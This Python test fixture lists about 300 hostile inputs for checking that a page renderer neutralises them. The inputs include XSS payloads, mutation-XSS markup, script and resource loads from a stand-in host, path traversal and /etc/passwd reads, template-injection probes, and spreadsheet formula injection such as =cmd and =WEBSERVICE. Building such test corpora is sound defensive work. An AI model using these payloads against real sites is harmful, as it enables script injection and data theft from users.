"""300 texts as somebody would write them who wants a page to run, to load, to lie or to break.

`pwned()` is the canary that observe.js counts; `evil.invalid` is a host that nothing may ask for.
"""

from __future__ import annotations

_RUN = "pwned()"
_HOST = "evil.invalid"

# Elements that run something by themselves.
_ELEMENTS = [
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script >{_RUN}</script >", f"<script\n>{_RUN}</script\n>",
    f"<script src=//{_HOST}/x.js></script>", f"<script src=https://{_HOST}/x.js></script>",
    rf"<script src=\\{_HOST}\share\x.js></script>", "<script src=file:///tmp/x.js></script>",
    f"<script type=module>{_RUN}</script>", f"<script type='text/javascript'>{_RUN}", f"<script>{_RUN}//",
    f"</script><script>{_RUN}</script>", f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"</noscript><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>", f"'\"><script>{_RUN}</script>", f"`><script>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script/x>{_RUN}</script>",
    f"<script\x0c>{_RUN}</script>", f"<script\t>{_RUN}</script>", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"\\<script\\>{_RUN}\\</script\\>", f"＜script＞{_RUN}＜/script＞",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><script href=data:,{_RUN} /></svg>",
    f"<math><script>{_RUN}</script></math>", f"<template><script>{_RUN}</script></template>",
    f"<iframe src=javascript:{_RUN}></iframe>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=//{_HOST}/></iframe>", "<iframe src=file:///etc/passwd></iframe>",
    f"<object data=javascript:{_RUN}></object>", f"<object data=//{_HOST}/x.swf></object>",
    f"<embed src=javascript:{_RUN}>", f"<embed src=//{_HOST}/x>", f"<applet code=//{_HOST}/x></applet>",
    f"<frameset><frame src=javascript:{_RUN}></frameset>", f"<portal src=https://{_HOST}></portal>",
    f"<base href=https://{_HOST}/>", rf"<base href=\\{_HOST}\share\>", "<base target=_blank>",
    f"<meta http-equiv=refresh content='0;url=https://{_HOST}/'>", f"<meta http-equiv=refresh content='0;javascript:{_RUN}'>",
    f"<meta http-equiv=Set-Cookie content=x>", f"<meta http-equiv=Content-Security-Policy content=''>",
    f"<link rel=stylesheet href=https://{_HOST}/x.css>", f"<link rel=import href=//{_HOST}/x>",
    f"<link rel=prefetch href=https://{_HOST}/x>", f"<link rel=icon href=//{_HOST}/x.ico>",
    f"<form action=https://{_HOST}/><input name=a><button>x</button></form>", f"<form action=javascript:{_RUN}><button>x</form>",
    f"<button formaction=javascript:{_RUN}>x</button>", f"<isindex action=javascript:{_RUN}>", f"<input type=image src=//{_HOST}/x>",
    f"<keygen autofocus onfocus={_RUN}>", "<dialog open>x</dialog>", "<plaintext>", "<xmp>", "<listing>", "<!--", "<![CDATA[",
    "<?php echo 1 ?>", "<%= 1 %>", "<!doctype x>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
]  # fmt: skip

# Event handlers.
_HANDLERS = [
    f"<{element} {event}={_RUN}>"
    for element, event in [
        ("img src=x", "onerror"), ("img src=x:", "OnErRoR"), ("img/src=x", "onerror"), ("image src=x", "onerror"),
        ("svg", "onload"), ("svg/", "onload"), ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
        ("video", "onloadstart"), ("video><source", "onerror"), ("audio src=x", "onerror"), ("details open", "ontoggle"),
        ("marquee", "onstart"), ("div style='animation-name:x'", "onanimationstart"), ("a href=x", "onclick"),
        ("p tabindex=0 id=x", "onfocus"), ("style", "onload"), ("link rel=stylesheet href=x", "onerror"),
        ("object data=x", "onerror"), ("iframe", "onload"), ("math", "onmouseover"), ("xss contenteditable", "onbeforeinput"),
        ("div hidden=until-found", "onbeforematch"), ("p popover", "onbeforetoggle"), ("table background=x", "onload"),
        ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"), ("form><input", "oninvalid"),
    ]
]  # fmt: skip
_HANDLERS += [
    f"<img src='x'onerror='{_RUN}'>", f"<img src=x onerror\x09=\x09{_RUN}>", f"<img src=x\x0aonerror\x0a=\x0a{_RUN}>",
    f"<img src=x onerror=&#112;wned()>", f"<img src=`x`onerror={_RUN}>", f'<img """><img src=x onerror={_RUN}>">',
    f'" onmouseover="{_RUN}', f"' onmouseover='{_RUN}", f'" autofocus onfocus="{_RUN}', f"x\" onload={_RUN} x=\"",
    f'"><img src=x onerror={_RUN}>', f"'><img src=x onerror={_RUN}>", f'&quot;&gt;&lt;img src=x onerror={_RUN}&gt;',
    f"</p></div></article><img src=x onerror={_RUN}>", f"</a><img src=x onerror={_RUN}>", f"</option></select><img src=x onerror={_RUN}>",
]  # fmt: skip

# Addresses, each as a link and as a picture, in Markdown and in HTML.
_ADDRESSES = [
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"  javascript:{_RUN}", f"java\tscript:{_RUN}", f"java&#10;script:{_RUN}",
    f"java&Tab;script:{_RUN}", f"&#106;avascript:{_RUN}", f"&#x6A;avascript&colon;{_RUN}", f"\x01javascript:{_RUN}",
    f"javascript&#58;{_RUN}", f"javascript://%0a{_RUN}", f"vbscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", f"data:image/svg+xml,<svg onload={_RUN}>", "blob:null/x",
    "file:///etc/passwd", f"file://{_HOST}/share/x", "FILE:///C:/Windows/win.ini", "C:/Windows/win.ini", "/etc/passwd",
    "/C:/Windows/win.ini", f"//{_HOST}/x.png", f"///{_HOST}/x.png", rf"\\{_HOST}\share\x.png", rf"/\{_HOST}/x.png",
    rf"\/{_HOST}/x.png", f"/&#9;/{_HOST}/x.png", f"/&#10;/{_HOST}/x.png", f"&#47;&#47;{_HOST}/x.png", f"%5C%5C{_HOST}%5Cx",
    "../../../../../../etc/passwd", "..%2f..%2f..%2fetc/passwd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "a/../../../../x",
    rf"..\..\..\x", f"https://{_HOST}/x.png", f"http:{_HOST}/x.png", f"https:\\\\{_HOST}/x.png", f"ftp://{_HOST}/x",
    f"view-source:https://{_HOST}", f"ms-word:ofe|u|https://{_HOST}/x.doc", "search-ms:query=x", f"intent://{_HOST}#Intent;end",
    f"about:blank", "chrome://settings", f"feed:javascript:{_RUN}", f"mhtml:file://{_HOST}/x",
]  # fmt: skip
_LINKS = [
    text
    for number, address in enumerate(_ADDRESSES)
    for text in (
        [f"[点]({address})", f"![图]({address})"]
        if number % 2
        else [f"<a href='{address}'>点</a>", f"<img src='{address}'>"]
    )
]
_LINKS += [f"[点][{n}]\n\n[{n}]: <{address}>" for n, address in enumerate(_ADDRESSES[:12])]
_LINKS += [
    f"<javascript:{_RUN}>", f"<https://{_HOST}/>", f"https://{_HOST}/看", f"[a](<javascript:{_RUN}>)", f'[a](x "\\" onclick={_RUN} x=")',
    f"[a](x '><img src=x onerror={_RUN}>')", f"![a\" onerror={_RUN} x=\"](x)", f"[![a](x)](javascript:{_RUN})", f"[a](javascript:{_RUN}\n)",
    f"[x](x){{: onclick={_RUN} }}", f"# 题 {{: onmouseover={_RUN} }}", f"标题 {{#x onclick={_RUN}}}", f"脚注[^1]\n\n[^1]: <img src=x onerror={_RUN}>",
    f"*[字]: <script>{_RUN}</script>\n\n字", f"```html\n<script>{_RUN}</script>\n```", f"    <script>{_RUN}</script>", f"`<script>{_RUN}</script>`",
    f"| a | b |\n|---|---|\n| <script>{_RUN}</script> | x |", f"> <script>{_RUN}</script>", f"- <script>{_RUN}</script>",
    f"!!! note\n    <script>{_RUN}</script>", f"--8<-- 'file:///etc/passwd'", f"[TOC]", f"[[x]]", f"::: x\n<script>{_RUN}</script>",
]  # fmt: skip

# Styles and pictures that ask for something.
_STYLES = [
    f"<style>*{{background:url(//{_HOST}/x)}}</style>", f"<style>@import '//{_HOST}/x.css';</style>",
    f"<p style='background:url(//{_HOST}/x)'>x</p>", f"<p style=\"background:url('javascript:{_RUN}')\">x</p>",
    f"<p style='width:expression({_RUN})'>x</p>", f"<p style='-moz-binding:url(//{_HOST}/x)'>x</p>",
    f"<p style='position:fixed;inset:0;background:#fff;z-index:9999'>盖住</p>", f"<font color=red size=99>大</font>",
    f"<img srcset='//{_HOST}/x 1x'>", f"<picture><source srcset=//{_HOST}/x><img src=x></picture>", f"<img src=//{_HOST}/x>",
    f"<img lowsrc=//{_HOST}/x dynsrc=//{_HOST}/y>", f"<video poster=//{_HOST}/x></video>", f"<video src=//{_HOST}/x autoplay></video>",
    f"<audio src=//{_HOST}/x autoplay></audio>", f"<track src=//{_HOST}/x>", f"<table background=//{_HOST}/x><td>x</table>",
    f"<svg><image href=//{_HOST}/x /></svg>", f"<svg><use href=//{_HOST}/x#y /></svg>", f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<a href=x ping=//{_HOST}/>x</a>", f"<a href=x target=_top download>x</a>", f"<body background=//{_HOST}/x>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
]  # fmt: skip

# Markup that changes when it is parsed a second time.
_MUTATIONS = [
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={_RUN}></style>", f"<svg><title><style><img src=x onerror={_RUN}>",
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>", f"<p title=\"`\"onerror=\"{_RUN}\">x", f"<table><tr><td></table><img src=x onerror={_RUN}>",
    f"<select><style></select><img src=x onerror={_RUN}></style>", f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->", f"<!--><img src=x onerror={_RUN}>-->", f"<!--!><img src=x onerror={_RUN}>-->",
    f"<a href='x'>代办<img alt='<x' src='y' title='> 代办 <img src=x onerror={_RUN}>'></a>", f"a&NewLine;b&lpar;&#0;&#xD800;&#x110000;",
]  # fmt: skip

# The program's own marks, and templates of every kind.
_MARKS = [
    "@@anliku:body@@", "@@anliku:csp@@", "@@anliku:scripts@@", "@@anliku:head@@", "@@anliku:title@@", "@@policy@@", "@@library@@",
    "<!--anliku:intro-->", f"<!--/anliku:intro--><script>{_RUN}</script>", "<!--include:verify.css-->", "{{ site.name }}",
    "{{ config }}", "{{ 7*7 }}", "{% include 'x' %}", "{% raw %}", "{# x #}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "%s %d %n {0} {x}", "$x$", "#set page(width: 1pt)", "#include \"/etc/passwd\"", "#eval(\"1\")", "#image(\"/etc/passwd\")",
    "`#raw`", "*x* _y_ $z$ <lab> @ref", "\\#let x = 1",
]  # fmt: skip

# What breaks a script, a file name, a line, a spreadsheet.
_BREAKERS = [
    "\u2028", "\u2029", "a\u2028b\u2029c", '"};pwned();//', "'});pwned();//", "\\", "\\\\", '\\"', "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "*/pwned();/*", "//", "${pwned()}", "`${pwned()}`", "__proto__", "constructor", "toString", "hasOwnProperty", "\u202e倒过来\u202c", "\u2066x\u2069",
    "\u200b\ufeff零宽", "\ufffe\uffff", "\x00", "\x1b[31m红\x1b[0m", "\x7f\x85\x9f", "e\u0301\u0327" * 20, "𠮷𠀀👨\u200d👩\u200d👧", "\U000e0041\U000e0042",
    "=cmd|'/c calc'!A1", "=HYPERLINK(\"https://evil.invalid\")", "+1+cmd|x!A1", "-1+cmd|x!A1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"https://evil.invalid\")",
    "＝1+1", "../../../etc/passwd", "..\\..\\x", "con", "aux.html", "a/b?c#d", ".", "..", " ", "-", "|", "NULL", "true", "1e999", "０", "x" * 3000, "长" * 2000,
    "lt", "gt", "amp", "quot", "#39", "a&amp;b", "&", "&;", "&#", "<", ">", "< >", "<a", "</", "a<b>c",
]  # fmt: skip

HOSTILE = list(dict.fromkeys(_ELEMENTS + _HANDLERS + _LINKS + _STYLES + _MUTATIONS + _MARKS + _BREAKERS))
